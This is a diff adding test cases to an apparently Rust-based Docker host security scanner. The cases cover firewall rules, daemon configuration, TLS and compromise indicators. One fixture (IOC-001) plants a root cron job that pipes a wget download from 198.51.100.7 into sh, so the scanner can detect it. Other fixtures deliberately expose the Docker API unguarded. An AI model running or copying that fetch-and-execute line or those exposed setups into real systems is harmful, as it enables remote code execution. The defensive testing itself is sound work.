@@ -70,6 +70,65 @@ fn gate(tree: &Tree, config: &str) {
     tree.file(GATE, &format!("{listen}{config}"));
 }
 
+/// A gate in a container that publishes its port.
+fn gate_container(tree: &Tree) {
+    let text = "services:\n  gate:\n    image: seawall\n    ports: [\"2376:2376\"]\n";
+    tree.file(COMPOSE, text);
+}
+
+/// What iptables-persistent loads.
+fn saved(tree: &Tree, rules: &str) {
+    tree.file("etc/iptables/rules.v4", rules);
+}
+
+fn filter(input: &str) -> String {
+    format!("*filter\n:INPUT ACCEPT [0:0]\n{input}COMMIT\n")
+}
+
+const DROP: &str = "-A INPUT ! -s 10.0.0.0/24 -p tcp -m tcp --dport 2375 -j DROP\n";
+const RAW: &str = "*raw\n:PREROUTING ACCEPT [0:0]\n\
+                   -A PREROUTING -p tcp -m tcp --dport PORT -j DROP\nCOMMIT\n";
+const USER: &str = "*filter\n:FORWARD ACCEPT [0:0]\n:DOCKER-USER - [0:0]\n\
+                    -A FORWARD -j DOCKER-USER\n\
+                    -A DOCKER-USER -p tcp -m tcp --dport PORT -j DROP\nCOMMIT\n";
+
+/// An engine on a port, and rules for INPUT.
+fn guarded(tree: &Tree, input: &str) {
+    unit(tree, "-H tcp://0.0.0.0:2375");
+    saved(tree, &filter(input));
+}
+
+/// An engine whose guarded port has a connection from there.
+fn connected(tree: &Tree, from: &str) {
+    saved(tree, &filter(DROP));
+    tree.dockerd("-H tcp://0.0.0.0:2375", &["0.0.0.0:2375"]);
+    let from: std::net::Ipv4Addr = from.parse().unwrap();
+    let from = u32::from_ne_bytes(from.octets());
+    let table = tree.path("proc/100/net/tcp");
+    let row = format!(" 1: 0100000A:0947 {from:08X}:9C40 01 0:0 0:0 0 0 0 900 1\n");
+    std::fs::write(&table, std::fs::read_to_string(&table).unwrap() + &row).unwrap();
+}
+
+/// A gate with an allowlist, on a host with two interfaces.
+fn two_interfaces(tree: &Tree, rp_filter: &str) {
+    gate(tree, "[network]\nallow = [\"10.0.0.0/24\"]\n");
+    for (name, mode) in
+        [("all", "0"), ("lo", "0"), ("docker0", "0"), ("eth0", "1"), ("eth1", rp_filter)]
+    {
+        tree.file(&format!("proc/sys/net/ipv4/conf/{name}/rp_filter"), mode);
+    }
+}
+
+/// An engine, and rules that nftables.service loads.
+fn nftables(tree: &Tree, text: &str) {
+    json(tree, "{}");
+    tree.file("etc/nftables.conf", text);
+    tree.link(
+        "/lib/systemd/system/nftables.service",
+        "etc/systemd/system/sysinit.target.wants/nftables.service",
+    );
+}
+
 const CASES: &[Case] = &[
     case(
         "NET-001",
@@ -221,6 +280,10 @@ const CASES: &[Case] = &[
     case("CFG-011", |t| json(t, "{}"), |t| json(t, "{\"live-restore\": true}")),
     case("CFG-012", |t| json(t, "{}"), |t| json(t, "{\"no-new-privileges\": true}")),
     case("CFG-013", |t| json(t, "{\"insecure-registries\": [\"r:5000\"]}"), |t| json(t, "{}")),
+    case("CFG-014", gate_container, |t| {
+        gate_container(t);
+        json(t, "{\"userland-proxy\": false}");
+    }),
     case("CFG-015", |t| unit(t, "-D"), |t| unit(t, "--debug=false")),
     case(
         "SOCK-001",
@@ -309,6 +372,7 @@ const CASES: &[Case] = &[
             t.certificate("home/al/.docker/cert", "P-256", "90", CLIENT);
         },
     ),
+    case("TLS-011", |t| json(t, VERIFIED), |t| unit(t, "-H tcp://127.0.0.1:2376 --tlsverify")),
     case("TLS-012", |t| ca(t, &["keyUsage=digitalSignature"]), |t| ca(t, CA)),
     case(
         "KEY-001",
@@ -498,6 +562,71 @@ const CASES: &[Case] = &[
         |t| compose(t, "    ports: [\"10.0.0.1:80:80\"]"),
     ),
     case(
+        "FW-003",
+        |t| guarded(t, &format!("-A INPUT -i eth0 -j ACCEPT\n-A INPUT -j ACCEPT\n{DROP}")),
+        |t| guarded(t, &format!("{DROP}-A INPUT -j ACCEPT\n")),
+    ),
+    case(
+        "FW-004",
+        |t| {
+            compose(t, "    ports: [\"2375:2375\"]");
+            saved(t, &filter(DROP));
+        },
+        |t| {
+            compose(t, "    ports: [\"2375:2375\"]");
+            saved(t, &RAW.replace("PORT", "2375"));
+        },
+    ),
+    case(
+        "FW-005",
+        |t| {
+            compose(t, "    ports: [\"2376:8443\"]");
+            saved(t, &USER.replace("PORT", "2376"));
+        },
+        |t| {
+            compose(t, "    ports: [\"2376:2376\"]");
+            saved(t, &USER.replace("PORT", "2376"));
+        },
+    ),
+    case(
+        "FW-006",
+        |t| nftables(t, "#!/usr/sbin/nft -f\n\nflush ruleset\n\ntable inet filter {\n}\n"),
+        |t| nftables(t, "table inet own\ndelete table inet own\ntable inet own {\n}\n"),
+    ),
+    case(
+        "FW-007",
+        |t| {
+            nftables(t, "table inet own {\n}\n");
+            t.file("proc/net/ip_tables_names", "filter\n");
+        },
+        |t| {
+            nftables(t, "table inet own {\n}\n");
+            t.file("proc/net/ip_tables_names", "");
+        },
+    ),
+    case(
+        "FW-009",
+        |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\", \"0.0.0.0/0\"]\n"),
+        |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n"),
+    ),
+    case("FW-010", |t| connected(t, "192.0.2.7"), |t| connected(t, "10.0.0.5")),
+    case("FW-011", |t| two_interfaces(t, "0"), |t| two_interfaces(t, "1")),
+    case(
+        "FW-012",
+        |t| {
+            gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n");
+            saved(t, "*filter\n:INPUT DROP [0:0]\nCOMMIT\n");
+        },
+        |t| {
+            gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n");
+            saved(
+                t,
+                "*filter\n:INPUT DROP [0:0]\n\
+                 -A INPUT -s 10.0.0.0/24 -p tcp --dport 2376 -j ACCEPT\nCOMMIT\n",
+            );
+        },
+    ),
+    case(
         "HOST-002",
         |t| {
             json(t, "{}");
@@ -523,6 +652,17 @@ const CASES: &[Case] = &[
         "HOST-004",
         |t| json(t, "{\"tls\": true, \"tls\": false}"),
         |t| json(t, "{\"tls\": true}"),
+    ),
+    case(
+        "IOC-001",
+        |t| {
+            json(t, "{}");
+            t.file("etc/cron.d/x", "* * * * * root wget -qO- http://198.51.100.7/x | sh\n");
+        },
+        |t| {
+            json(t, "{}");
+            t.file("etc/cron.d/x", "# wget x | sh\n0 4 * * * root apt-get update\n");
+        },
     ),
     case("GATE-001", |t| gate(t, "lisen = []\n"), |t| gate(t, "")),
     case("GATE-002", |t| gate(t, ""), |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n")),
@@ -566,8 +706,8 @@ const CASES: &[Case] = &[
     ),
 ];
 
-/// Checks that no files can show: `live` has them.
-const LIVE: &[&str] = &["CFG-016", "NET-007"];
+/// Checks that no files can show: `live` has them, and `firewall::status`.
+const LIVE: &[&str] = &["CFG-016", "CTR-004", "FW-008", "NET-007"];
 
 #[test]
 fn every_check_finds_what_is_bad_and_passes_what_is_good() {
